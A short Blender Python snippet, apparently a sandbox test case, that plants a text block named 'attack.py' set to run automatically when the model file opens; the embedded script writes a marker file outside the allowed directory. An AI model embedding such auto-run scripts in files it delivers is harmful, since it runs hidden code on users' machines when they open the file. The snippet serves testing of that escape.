# Leaves a text that Blender runs when the model is opened.
# outcome: ok
# triangles: 12
text = bpy.data.texts.new("attack.py")
text.write(f"import bpy\nbpy.ops.mesh.primitive_cube_add()\nopen('{OUTSIDE}/text', 'w').write('x')\n")
text.use_module = True
cube()
